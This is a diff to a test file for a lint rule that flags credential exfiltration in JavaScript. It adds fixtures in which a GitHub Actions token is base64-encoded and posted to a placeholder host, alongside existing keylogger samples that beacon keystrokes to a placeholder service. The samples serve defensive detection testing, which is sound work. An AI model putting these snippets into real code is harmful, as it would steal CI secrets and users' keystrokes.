@@ -10,6 +10,7 @@ const given = (run: string, env: Readonly<Record<string, string>> = { T: 'secret
 
 await ruleTester(rule, {
   valid: [
+    { code: 'import * as core from "@actions/core"; const token = core.getInput("slack-token"); await fetch("https://slack.com/api/chat.postMessage", { method: "POST", headers: { Authorization: `Bearer ${token}` }, body: "{}" });' },
     { code: 'function close(e) { if (e.key === \'Escape\') hide(); } document.addEventListener(\'keydown\', close);' },
     { code: '$(document).on(\'keydown\', (e) => { if (e.ctrlKey && e.key === \'s\') save(); });' },
     { code: '$(document).on(\'keydown\', onKey);' },
@@ -177,6 +178,8 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    { code: 'import * as core from "@actions/core"; const t = core.getInput("token"); await fetch("https://x.example.app/api", { method: "POST", body: Buffer.from(t).toString("base64") });', errors: [{ messageId: 'encoded' }] },
+    { code: 'const { HttpClient } = require("@actions/http-client"); const client = new HttpClient("x"); client.postJson("https://x.example.app/api", { t: Buffer.from(process.env.GITHUB_TOKEN).toString("base64") });', errors: [{ messageId: 'encoded' }] },
     // handlers with a name, and those of jQuery
     { code: 'let b = \'\'; function log(e) { b += e.key; navigator.sendBeacon(\'https://x.example-service.com/k\', b); } document.addEventListener(\'keydown\', log);', errors: [{ messageId: 'credential' }] },
     { code: '$(document).on(\'keypress\', (e) => $.post(\'https://x.example-service.com/k\', { k: e.key }));', errors: [{ messageId: 'credential' }] },
